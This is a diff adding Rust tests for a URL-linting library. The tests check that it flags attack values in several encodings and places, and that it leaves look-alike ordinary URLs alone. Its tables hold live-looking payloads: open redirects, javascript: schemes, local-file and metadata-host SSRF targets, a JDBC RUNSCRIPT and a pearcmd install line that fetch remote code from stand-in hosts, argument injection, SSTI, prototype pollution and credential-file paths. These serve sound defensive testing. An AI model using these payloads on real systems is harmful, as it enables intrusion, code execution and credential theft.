@@ -1,0 +1,291 @@
+//! Attacks by class, each in each place where a value may stand and in each spelling: as it is, encoded once, encoded twice, and as a
+//! string of JSON. The tests do not use the library's encoder.
+
+use triplet_inspect::{Context, Severity, lint};
+
+/// Each octet that is not a letter or a digit as a triplet.
+fn encoded(text: &str) -> String {
+    let octet = |b: u8| match b.is_ascii_alphanumeric() {
+        true => char::from(b).to_string(),
+        false => format!("%{b:02X}"),
+    };
+    text.bytes().map(octet).collect()
+}
+
+/// Whether a rule is found above `info`.
+fn is_raised(text: &str, context: Context, rule: &str) -> bool {
+    let findings = lint(text.as_bytes(), context);
+    findings.iter().any(|f| f.rule().name() == rule && f.severity() > Severity::Info)
+}
+
+/// The rule, the name of the pair, the value, and whether the value can stand in a query as it is.
+#[rustfmt::skip]
+const VALUES: &[(&str, &str, &str, bool)] = &[
+    // A userinfo that looks like a host and goes on, and what is joined to a host.
+    ("misleading-userinfo", "u", "https://teams.microsoft.com-update@setup.test/", true),
+    ("misleading-userinfo", "u", "https://bank.org_login@setup.test/", true),
+    ("at-sign-after-host", "u", "http://h.test:80#@localhost:6379/", false),
+    ("scheme-relative-value", "next", "@evil.example", true),
+    ("scheme-relative-value", "next", ".evil.example", true),
+    ("scheme-relative-value", "next", "://evil.example/x", true),
+    // Delimiters that compatibility hides.
+    ("scheme-relative-value", "next", "／／evil.example", true),
+    ("scheme-relative-value", "next", "/／evil.example", true),
+    ("scheme-relative-value", "next", "。。//evil.example", true),
+    ("scheme-relative-value", "next", "＼＼evil.example", true),
+    ("script-scheme", "next", "ｊａｖａｓｃｒｉｐｔ：alert(1)", true),
+    ("fetcher-scheme", "f", "ﬁle:///etc/passwd", true),
+    // Schemes.
+    ("script-scheme", "next", "\u{A0}javascript:alert(1)", true),
+    ("script-scheme", "next", "\u{200B}\u{FEFF}javascript:alert(1)", true),
+    ("script-scheme", "next", "\u{3000}vbscript:x(1)", true),
+    ("script-scheme", "next", "javascript&#x3a;alert(1)", false),
+    ("script-scheme", "next", "j&#97;vascript&colon;alert(1)", false),
+    ("script-scheme", "text", "[a](javascript:alert(1))", true),
+    ("fetcher-scheme", "src", "concat:http://h.test/a.m3u8|file:///etc/passwd", true),
+    ("fetcher-scheme", "src", "subfile,,start,0,end,64,,:/etc/passwd", true),
+    ("fetcher-scheme", "src", "hls+file:///etc/hostname", true),
+    ("fetcher-scheme", "src", "msl:/tmp/a.msl", true),
+    ("fetcher-scheme", "src", "vid:msl:/tmp/a.msl", true),
+    ("fetcher-scheme", "src", "ephemeral:/var/www/a.txt", true),
+    ("fetcher-scheme", "src", "label:@/etc/passwd", true),
+    ("fetcher-scheme", "src", "text:/etc/passwd", true),
+    ("fetcher-scheme", "src", "unix:/run/docker.sock|http://localhost/info", true),
+    ("fetcher-scheme", "src", "cifs://h.test/a", true),
+    ("fetcher-scheme", "ds", "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://h.test/x.sql'", true),
+    ("fetcher-scheme", "ds", "jdbc:mysql://h.test/x?allowLoadLocalInfile=true", true),
+    ("fetcher-scheme", "ds", "service:jmx:rmi:///jndi/rmi://h.test:1099/x", true),
+    // Another parameter.
+    ("encoded-delimiter", "user", "a&x=y", false),
+    ("encoded-delimiter", "return_url", "/x&return_url=//evil", false),
+    // Options.
+    ("leading-dash", "u", "-o /var/www/a.php", true),
+    ("leading-dash", "u", "-K ./x", true),
+    ("leading-dash", "f", "--checkpoint=1", true),
+    ("leading-dash", "f", "--checkpoint=1&--checkpoint-action=exec", false),
+    // A delimiter before an extension.
+    ("path-parameter", "jsp", "/app/rest/users;.jsp", true),
+    ("path-parameter", "f", "shell.asp;.jpg", true),
+    ("encoded-delimiter", "path", "secret.txt?.jpg", false),
+    ("encoded-delimiter", "path", "internal/admin#.png", false),
+    // Hosts of clouds and clusters.
+    ("private-host", "x", "http://metadata.tencentyun.com/latest/", true),
+    ("private-host", "x", "http://metadata.packet.net/userdata", true),
+    ("private-host", "x", "http://METADATA.platformequinix.com./", true),
+    ("private-host", "x", "http://api.metadata.cloud.ibm.com/instance_identity/v1/token", true),
+    ("private-host", "x", "http://rancher-metadata/latest/", true),
+    ("private-host", "x", "http://consul.service.consul:8500/v1/kv/", true),
+    ("private-host", "x", "https://kubernetes.default.svc/api", true),
+    ("private-host", "x", "http://192.0.0.192/latest/", true),
+    ("private-host", "x", "http://[fd00:ec2:0::254]/", true),
+    // Sessions in a path, devices, files that no server gives out.
+    ("path-parameter", "path", "/b/(S(X))in/a.dll", true),
+    ("path-parameter", "path", "/(A(a))/admin/(S(X))/x", true),
+    ("windows-device", "name", "COM1.jpg", true),
+    ("windows-device", "name", "up/aux.php", true),
+    ("dot-segment", "loc", "../WEB-INF/web.xml", true),
+    ("dot-segment", "img", "../wp-config.php", true),
+    ("dot-segment", "f", "..\\.git\\config", true),
+    ("system-file", "f", "/var/lib/php/sessions/sess_1", true),
+    ("callback-code", "cb", "CWSMIKI0hCD0Up0IZUnnnnnnnnnnnnnnnnnnnUU5nnnnnn3Snn7iiudIbEAt333swW0s", true),
+];
+
+#[test]
+fn values_in_each_place_and_spelling() {
+    let mut missing = Vec::new();
+    for &(rule, name, value, is_plain) in VALUES {
+        let (once, twice) = (encoded(value), encoded(&encoded(value)));
+        let spellings = [("plain", value), ("once", once.as_str()), ("twice", twice.as_str())];
+        for (spelling, text) in spellings.into_iter().skip(usize::from(!is_plain)) {
+            for (context, text) in [
+                (Context::Url, format!("https://a.test/go?b=1&{name}={text}")),
+                (Context::Query, format!("{name}={text}")),
+                (Context::Form, format!("b=1&{name}={text}&c=2")),
+                (Context::Fragment, format!("{name}={text}")),
+                (Context::Url, format!("https://a.test/#{name}={text}")),
+                (
+                    Context::Url,
+                    format!(
+                        "https://a.test/?to=https%3A%2F%2Fb.test%2F%3F{name}%3D{}",
+                        encoded(text)
+                    ),
+                ),
+            ] {
+                if !is_raised(&text, context, rule) {
+                    missing.push(format!("{rule}, {spelling}, {}: {text}", context.name()));
+                }
+            }
+        }
+    }
+    assert!(missing.is_empty(), "{}:\n{}", missing.len(), missing.join("\n"));
+}
+
+/// The strings of JSON are values, whose names are those of the members. Slashes may have a backslash before them.
+#[test]
+fn values_in_json() {
+    let mut missing = Vec::new();
+    for &(rule, name, value, _) in VALUES {
+        let string = value.replace('\\', "\\\\").replace('"', "\\\"");
+        for string in [string.clone(), string.replace('/', "\\/")] {
+            let json = format!("{{\"a\": 1, \"{name}\": [\"{string}\", 2], \"z\": \"http:\"}}");
+            for text in [encoded(&json), encoded(&encoded(&json))] {
+                let text = format!("https://a.test/?q={text}");
+                if !is_raised(&text, Context::Url, rule) {
+                    missing.push(format!("{rule}: {json}: {text}"));
+                }
+            }
+        }
+    }
+    assert!(missing.is_empty(), "{}:\n{}", missing.len(), missing.join("\n"));
+    // The span is that of the text as it was given, with its escapes.
+    let text = br#"{"a":"http:\/\/127.0.0.1\/x"}"#;
+    let findings = lint(text, Context::Any);
+    let found = findings.iter().find(|f| f.rule().name() == "private-host").expect("an address");
+    assert_eq!(&text[found.span()], b"127.0.0.1");
+}
+
+/// The rule, the path, and the same path encoded.
+#[rustfmt::skip]
+const PATHS: &[(&str, &str)] = &[
+    ("path-parameter", "/b/(S(X))in/App.dll"),
+    ("path-parameter", "/(S(x))/(A(y))/bi(S(z))n/a.dll"),
+    ("path-parameter", "/profile.json;a.png"),
+    ("hidden-file", "/raw/.GIT/config"),
+    ("dot-segment", "/@fs/x/x/../../etc/passwd"),
+    ("path-parameter", "/admin/users.json;a=.css"),
+    ("windows-short-name", "/*~1*/a.aspx"),
+    ("windows-short-name", "/a~1*/x.aspx"),
+    ("encoded-delimiter", "/admin/%3Bpage"),
+    ("windows-trailing", "/web.config.%20."),
+    ("windows-trailing", "/admin.aspx%20"),
+    ("hidden-file", "/backup/id_ed25519"),
+    ("hidden-file", "/server.key"),
+    ("hidden-file", "/live/privkey.pem"),
+    ("hidden-file", "/terraform.tfstate.backup"),
+    ("hidden-file", "/.azure/accessTokens.json"),
+    ("hidden-file", "/.config/gcloud/credentials.db"),
+    ("hidden-file", "/CVS/Entries"),
+    ("hidden-file", "/_darcs/prefs"),
+    ("hidden-file", "/.htpasswd.old"),
+    ("hidden-file", "/.env%20"),
+    ("hidden-file", "/WEB-INF./web.xml"),
+    ("fetcher-scheme", "/proxy/unix:/run/docker.sock%7Chttp://localhost/info"),
+];
+
+#[test]
+fn paths() {
+    for (rule, path) in PATHS {
+        let inner = encoded(&format!("https://a.test{path}"));
+        for (context, text) in [
+            (Context::Path, (*path).to_owned()),
+            (Context::Url, format!("https://a.test{path}?q=1")),
+            (Context::Url, format!("https://b.test/go?to={inner}")),
+            (Context::Url, format!("https://b.test/go?to={}", encoded(&inner))),
+        ] {
+            // A gateway takes the segments of a path for references, and a program behind it does not.
+            let within = text.starts_with("https://b.test");
+            if within && *rule == "fetcher-scheme" {
+                continue;
+            }
+            assert!(is_raised(&text, context, rule), "{rule} as {}: {text}", context.name());
+        }
+    }
+}
+
+/// Queries and names.
+#[test]
+fn queries_and_names() {
+    for (rule, query) in [
+        ("leading-dash", "-s"),
+        ("leading-dash", "%2Ds"),
+        ("leading-dash", "-d+allow_url_include%3D1"),
+        ("leading-dash", "+config-create+/&file=/usr/local/lib/php/pearcmd.php&/x+/tmp/s.php"),
+        ("leading-dash", "f=pearcmd&+install+-R+/tmp+http%3A%2F%2Fh.test%2Fa.tgz"),
+        ("leading-dash", "--env=production"),
+        ("scheme-relative-value", "@evil.example/mapi/nspi/?&Email=a"),
+        ("header-as-name", "X-HTTP-Method-Override=PUT"),
+        ("header-as-name", "X-HTTP-Method=DELETE"),
+        ("header-as-name", "x-middleware-subrequest=middleware:middleware"),
+        ("header-as-name", "X-Original-URL=/admin"),
+        ("header-as-name", "a=1&_method=DELETE"),
+        ("object-graph-name", "__class__.__init__.__globals__.SECRET_KEY=x"),
+        ("object-graph-name", "a%5B__class__%5D%5B__init__%5D=x"),
+        ("proto-key", "__pro__proto__to__[x]=1"),
+        ("nested-query", "path=secret.txt?.jpg"),
+    ] {
+        for (context, text) in [
+            (Context::Query, query.to_owned()),
+            (Context::Url, format!("https://a.test/index.php?{query}")),
+            (
+                Context::Url,
+                format!("https://b.test/?to={}", encoded(&format!("https://a.test/i?{query}"))),
+            ),
+        ] {
+            assert!(is_raised(&text, context, rule), "{rule} as {}: {text}", context.name());
+        }
+    }
+    for (rule, text) in [
+        ("html-ampersand", "https://a.test/go?next=javascript&#x3a;alert(1)"),
+        ("at-sign-after-host", "https://a.test/?url=http://h.test:80#@localhost:6379/"),
+        ("misleading-userinfo", "https://teams.microsoft.com-update@setup.test/"),
+        ("duplicate-key", "https://a.test/login?next=/home&next=https://evil.example"),
+        ("crlf", "https://a.test/?q=x%0D%0AINFO%20User%20admin%20is%20in"),
+        ("private-host", "http://metadata.tencentyun.com/latest/meta-data/"),
+        ("private-host", "http://rancher-metadata/latest/"),
+    ] {
+        assert!(is_raised(text, Context::Url, rule), "{rule}: {text}");
+    }
+}
+
+/// Ordinary texts that look like these attacks.
+#[test]
+fn ordinary_texts_that_look_like_them() {
+    for text in [
+        "https://john.doe-smith@git.example.com/a.git",
+        "https://a.test/?user=@anna&next=.",
+        "https://a.test/?email=anna@b.test#@anna",
+        "https://a.test/x#@anna",
+        "https://a.test/?q=%EF%BC%8F%EF%BC%8F",
+        "https://a.test/?q=%E3%80%82%E3%80%82%E3%80%82",
+        "https://a.test/?q=cache:https://b.test/",
+        "https://a.test/?q=label:+a&text=text:+b",
+        "https://a.test/?ds=jdbc:postgresql://db.example.com:5432/app",
+        "https://a.test/?q=AT%26T&company=a%26b",
+        "https://a.test/?q=a%26b%3Dc",
+        "https://a.test/?next=%2Fx%3Fa%3D1%26next%3D2",
+        "https://a.test/?q=-foo+bar&r=-1&s=--",
+        "https://a.test/?options=-c%20search_path%3Dapp",
+        "https://a.test/?-1",
+        "https://a.test/?+a+b",
+        "https://a.test/?song=Who%20Are%20You%3F.mp3&book=C%23.pdf",
+        "https://a.test/Who%20Are%20You%3F.mp3",
+        "https://a.test/?q=metadata&host=metadata.example.com",
+        "https://a.test/(S(lit3py55t21z5v55vlm25s55))/orders.aspx",
+        "https://a.test/wiki/A_(S)_(film)",
+        "https://a.test/?name=con.test.jpg&file=com1&s=console.log",
+        "https://a.test/?f=../docs/web.xml&g=../index.html",
+        "https://a.test/?highlight=__import__#open",
+        "https://a.test/?_method=PATCH&authenticity_token=LwwIKSthvlVwYcPiQspjpSk4%3D",
+        "https://a.test/?_method=GET&__typename=a&__v=1",
+        "https://github.com/a/b/blob/main/.htaccess",
+        "https://unpkg.com/a@^1.2.3/b.js",
+        "https://a.test/?next=/a&next=/b&r=https%3A%2F%2Fb.test%2F&r=https%3A%2F%2Fb.test%2F",
+        "https://a.test/a/../etc/hosting",
+        "https://a.onelink.me/x?af_dp=app%3A%2F%2Fhome",
+        "mailto:%22A%20B%22%20%3Ca@b.test%3E?subject=x",
+        "https://firebasestorage.googleapis.com/v0/b/a/o/x%2FNr.%252012%2520%2528M%25C3%25A4rz%2529.pdf?alt=media",
+        "https://console.cloud.google.com/logs/query;query=a%3D%22b%22%0Ac%3DERROR;timeRange=PT1H?project=p",
+        "https://es.example.com/%3Clogs-%7Bnow%2Fd%7D%3E/_search",
+        "https://a.test/?j=%7B%22a%22%3A%22https%3A%2F%2Fb.test%2F%22%2C%22b%22%3A%5B1%5D%7D",
+        "https://a.test/?q=%7B%22a%22",
+        "https://a.test/keys/server.keys/id_editor/.pemx",
+    ] {
+        let findings = lint(text.as_bytes(), Context::Url);
+        let raised: Vec<_> = findings
+            .iter()
+            .filter(|f| f.severity() > Severity::Info)
+            .map(|f| f.rule().name())
+            .collect();
+        assert!(raised.is_empty(), "{text}: {raised:?}");
+    }
+}
